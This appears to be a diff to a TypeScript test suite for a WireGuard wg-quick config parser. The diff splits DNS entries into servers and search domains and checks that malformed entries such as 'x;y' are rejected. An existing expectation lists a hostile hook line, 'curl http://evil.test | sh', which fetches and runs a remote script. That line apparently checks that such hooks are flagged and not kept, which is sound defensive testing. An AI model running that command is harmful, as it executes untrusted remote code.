@@ -53,7 +53,8 @@ describe("wg-quick text", () => {
       ].join("\n"),
     );
     expect(plan.addresses).toEqual(["10.77.0.1/24", "fd00:77::1/64"]);
-    expect(plan.dns).toEqual(["10.77.0.53", "overlay.internal"]);
+    expect(plan.dns).toEqual(["10.77.0.53"]);
+    expect(plan.dnsSearch).toEqual(["overlay.internal"]);
     expect(plan.mtu).toBe(1380);
     expect(plan.table).toBe("auto");
     expect(plan.allowedIps).toEqual(["10.77.0.2/32", "192.168.77.0/24"]);
@@ -67,6 +68,20 @@ describe("wg-quick text", () => {
       "hook: curl http://evil.test | sh",
       "PostDown = sysctl -q -w net.ipv4.ip_forward=0",
       "SaveConfig = false",
+    ]);
+  });
+
+  it("splits DNS like wg-quick: IP addresses are servers, the rest search domains; junk is reported, not kept", () => {
+    const text = cli.wgQuick
+      .fillPrivateKey(SERVER_TEXT, KEY)
+      .replace("DNS = 10.77.0.53, overlay.internal", "DNS = fd00:77::53, corp.example., 10.77.0.54, a b, -bad.example, x;y");
+    const plan = cli.wgQuick.planWgQuick(text);
+    expect(plan.dns).toEqual(["fd00:77::53", "10.77.0.54"]);
+    expect(plan.dnsSearch).toEqual(["corp.example"]);
+    expect(plan.ignored.filter((line: string) => line.startsWith("DNS"))).toEqual([
+      "DNS entry a b: neither an IP address nor a domain name",
+      "DNS entry -bad.example: neither an IP address nor a domain name",
+      "DNS entry x;y: neither an IP address nor a domain name",
     ]);
   });
 
